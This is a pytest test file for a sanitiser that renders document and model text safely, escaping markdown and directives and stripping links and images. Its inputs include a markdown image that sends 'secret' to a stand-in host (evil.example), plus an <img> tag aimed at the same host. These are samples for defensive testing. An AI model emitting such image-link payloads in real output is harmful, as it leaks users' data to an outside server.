"""What documents and models write is shown as text: no formula, no colour directive, no image, no link."""

import pytest

from ui.safe_text import answer_markdown, literal, sentence


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("EUR 5 *net*_of_ tax", r"EUR 5 \*net\*\_of\_ tax"),
        ("$x^2$ :red[alarm]", r"\$x^2\$ \:red\[alarm\]"),
        ("# 4.2\nQuotations", r"\# 4\.2 Quotations"),
        ("[a](http://b)", r"\[a\]\(http\://b\)"),
    ],
)
def test_literal_text_has_nothing_to_interpret(written, shown):
    assert literal(written) == shown


def test_our_messages_keep_their_commands():
    assert sentence("a_b.pdf is locked: run `make x_y`.") == r"a\_b\.pdf is locked: run `make x_y`\."


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("- **Three** quotations", "- **Three** quotations"),
        ("| a | b |\n| --- | --- |", "| a | b |\n| --- | --- |"),
        ("costs $5 to $9", r"costs \$5 to \$9"),
        ("see ![x](http://evil.example/?q=secret) here", "see x here"),
        ("![x][ref]\n\n[ref]: http://evil.example", "[x][ref]\n"),
        ("[the policy](https://evil.example/a_(b) 'title')", "the policy"),
        ("<img src=http://evil.example>", "&lt;img src=http://evil.example>"),
        (":red[alarm] :material/home: :smile:", r"\:red[alarm] \:material/home: \:smile:"),
        ("at 10:30, yes: fine", "at 10:30, yes: fine"),
        ("Three are required [1].", "Three are required :blue-badge[1]."),
        ("Both [1, 2] and [3][4].", "Both :blue-badge[1] :blue-badge[2] and :blue-badge[3] :blue-badge[4]."),
    ],
)
def test_answers_keep_their_form_and_lose_what_could_harm(written, shown):
    assert answer_markdown(written) == shown
